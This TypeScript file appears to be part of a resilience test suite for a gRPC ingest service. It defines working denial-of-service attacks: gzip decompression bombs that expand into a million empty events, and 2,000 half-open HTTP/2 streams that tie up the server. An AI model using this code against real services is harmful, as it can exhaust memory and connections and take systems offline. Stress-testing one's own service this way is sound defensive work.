import { connect, type ClientHttp2Session, type ClientHttp2Stream } from "node:http2";
import { setTimeout as delay } from "node:timers/promises";
import { gzipSync } from "node:zlib";
import type { Attack, Field, Tally } from "../attack.ts";
import { Answers } from "../flood.ts";

/** A message of a million empty events: 2 kB in gzip, 500 MB as objects. */
function emptyEvents(): Buffer {
  const raw = Buffer.alloc(2_000_000);
  for (let at = 0; at < raw.length; at += 2) raw[at] = 10; // field 1, a message of 0 bytes
  const body = gzipSync(raw, { level: 9 });
  const head = Buffer.from([1, 0, 0, 0, 0]);
  head.writeUInt32BE(body.length, 1);
  return Buffer.concat([head, body]);
}

const headers = (token: string | undefined) => ({
  ":method": "POST",
  ":path": "/faultline.v1.IngestService/ReportEvents",
  "content-type": "application/grpc",
  "grpc-encoding": "gzip",
  te: "trailers",
  ...(token !== undefined && { authorization: `Bearer ${token}` }),
});

/** Calls one after the other on some connections until the time has passed. */
async function call({ grpcAddress, seconds }: Field, token: string | undefined, message: Buffer): Promise<Tally> {
  const answers = new Answers();
  const stopAt = performance.now() + seconds * 1000;
  const lane = async () => {
    while (performance.now() < stopAt) {
      const connection = connect(`http://${grpcAddress}`);
      connection.on("error", () => undefined); // what it meant for a call is counted there
      while (performance.now() < stopAt && !connection.destroyed && !connection.closed) {
        const startedAt = performance.now();
        answers.add(await answerOf(connection.request(headers(token)), message));
        await delay(Math.max(0, startedAt + 50 - performance.now()));
      }
      connection.destroy();
    }
  };
  await Promise.all(Array.from({ length: 8 }, lane));
  return answers.tally();
}

function answerOf(stream: ClientHttp2Stream, message: Buffer): Promise<string> {
  return new Promise((resolve) => {
    let status: unknown;
    const look = (got: Record<string, unknown>) => (status = got["grpc-status"] ?? status);
    stream.on("response", look).on("trailers", look);
    stream.on("error", () => undefined); // `close` follows
    stream.on("close", () => resolve(status === undefined ? "no answer" : `status ${String(status)}`));
    stream.resume();
    stream.end(message);
  });
}

/** 2,000 calls that never send their message. */
async function halfOpen({ grpcAddress, seconds, token }: Field): Promise<Tally> {
  const answers = new Answers();
  const connections: ClientHttp2Session[] = [];
  const startedAt = performance.now();
  for (let opened = 0; opened < 20; opened++) {
    const connection = connect(`http://${grpcAddress}`);
    connections.push(connection);
    connection.on("error", () => undefined);
    for (let n = 0; n < 100; n++) {
      const stream = connection.request(headers(token));
      stream.on("error", () => undefined);
      stream.on("close", () => answers.add("ended"));
      stream.write(Buffer.from([0, 0]));
      stream.resume();
    }
    await delay(50);
  }
  await delay(startedAt + seconds * 1000 - performance.now());
  const tally = answers.tally();
  for (const connection of connections) connection.destroy();
  return tally;
}

export const grpc: readonly Attack[] = [
  {
    name: "C2 gRPC calls of a million empty messages, without a token",
    arm(field) {
      const message = emptyEvents();
      return () => call(field, undefined, message);
    },
  },
  {
    name: "C2 gRPC calls of a million empty messages, with a token",
    arm(field) {
      const message = emptyEvents();
      return () => call(field, field.token, message);
    },
  },
  { name: "C2 2,000 gRPC calls that stay half open", arm: (field) => () => halfOpen(field) },
];
